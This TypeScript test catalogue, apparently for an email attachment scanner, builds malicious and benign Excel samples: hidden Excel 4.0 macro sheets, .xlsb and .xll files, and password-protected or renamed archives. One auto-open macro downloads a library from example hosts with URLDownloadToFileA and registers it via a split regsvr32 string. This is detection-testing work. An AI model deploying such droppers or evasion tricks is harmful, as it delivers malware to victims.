import { cellAt, fn, join } from '../excel4/formula.ts'
import * as excel4 from '../excel4/index.ts'
import { exe } from '../files/index.ts'
import { xls, xlsx } from '../office/index.ts'
import { zip } from '../zip/index.ts'
import type { CatalogueEntry } from './entry.ts'
import { attached, behindPassword, carrying, nested, one, renamed } from './mails.ts'

/** Four addresses tried one after the other, then the library that was fetched. */
const chained: Required<Pick<excel4.MacroWorkbook, 'sheets' | 'names'>> = {
  sheets: [
    { name: 'Sheet', cells: { A1: 'Protected View' } },
    {
      name: 'GBVT1',
      kind: 'macro',
      state: 'hidden',
      cells: {
        E1: fn('CALL', 'urlmon', 'URLDownloadToFileA', 'JJCCBB', 0, 'http://a.example.com/wp-content/x/', '..\\cusoa.ocx', 0, 0),
        E2: fn(
          'IF',
          excel4.less(cellAt('E1'), 0),
          fn('CALL', 'urlmon', 'URLDownloadToFileA', 'JJCCBB', 0, 'http://b.example.com/y/', '..\\cusoa.ocx', 0, 0),
        ),
        E3: fn('EXEC', join('C:\\Windows\\SysWow64\\r', 'egsv', 'r32.exe /s ..\\cusoa.ocx')),
        E4: fn('RETURN'),
      },
    },
  ],
  names: [{ name: 'auto_open1', refersTo: cellAt('E1', 'GBVT1') }],
}

const plainSheet = {
  sheets: [
    { name: '集計', cells: { A1: '外来', B1: 120 } },
    { name: '設定', state: 'hidden' as const, cells: { A1: 'x' } },
  ],
  names: [],
}

export const excelEntries: readonly CatalogueEntry[] = [
  {
    id: 'A05',
    title: { ja: 'Excel 4.0 マクロ（.xls）', en: 'Excel 4.0 macros in .xls' },
    bad: [
      attached('very hidden sheet', () => excel4.xlsWithMacroSheet()),
      attached('addresses tried one after the other', () => excel4.xlsWithMacroSheet({ name: '07062022.xls', ...chained })),
      attached('built from single letters', () => excel4.xlsWithMacroSheet({ ...excel4.assembledFromLetters })),
      attached('protected without a password', () => excel4.xlsWithMacroSheet({ encrypted: { method: 'rc4-cryptoapi' } })),
      attached('under the name of a newer workbook', () => renamed(excel4.xlsWithMacroSheet(chained), '売上.xlsx')),
      behindPassword('behind a password', () => excel4.xlsWithMacroSheet(excel4.assembledFromLetters), 'gMZLBKgKO'),
    ],
    lookAlike: [
      attached('plain workbook', () => xls()),
      attached('hidden sheet without macros', () => excel4.xlsWithMacroSheet({ name: '集計.xls', ...plainSheet })),
    ],
  },
  {
    id: 'A06',
    title: { ja: 'Excel 4.0 マクロ（.xlsm・.xlsb）', en: 'Excel 4.0 macros in .xlsm and .xlsb' },
    bad: [
      attached('xlsm', () => excel4.xlsmWithMacroSheet({ name: '2022-03-01_1137- Statement.xlsm' })),
      attached('xlsb', () => excel4.xlsbWithMacroSheet({ name: 'A_2253998007.xlsb', ...chained })),
      attached('xlsm built from single letters', () => excel4.xlsmWithMacroSheet({ ...excel4.assembledFromLetters })),
      nested('xlsb two zips deep', () => excel4.xlsbWithMacroSheet({ ...excel4.assembledFromLetters })),
      one('xlsb in a zip with a password in words', () =>
        carrying(zip('details.zip').encrypted('1022PD').with(excel4.xlsbWithMacroSheet())).text('Archive password: 1022PD'),
      ),
    ],
    lookAlike: [
      attached('plain workbook', () =>
        xlsx({
          rows: [
            ['請求', 1],
            ['=合計', 2],
          ],
        }),
      ),
      attached('xlsb without macros', () => excel4.xlsbWithMacroSheet({ name: '集計.xlsb', ...plainSheet })),
    ],
  },
  {
    id: 'A07',
    title: { ja: 'Excel アドイン（.xll）', en: 'Excel add-in (.xll)' },
    bad: [
      attached('xll', () => exe('明細.xll', { dll: true })),
      nested('xll two zips deep', () => exe('report.xll', { dll: true })),
      attached('program under the name of a workbook', () => exe('集計.xlsx', { dll: true })),
    ],
    lookAlike: [attached('plain workbook', () => xlsx())],
  },
]
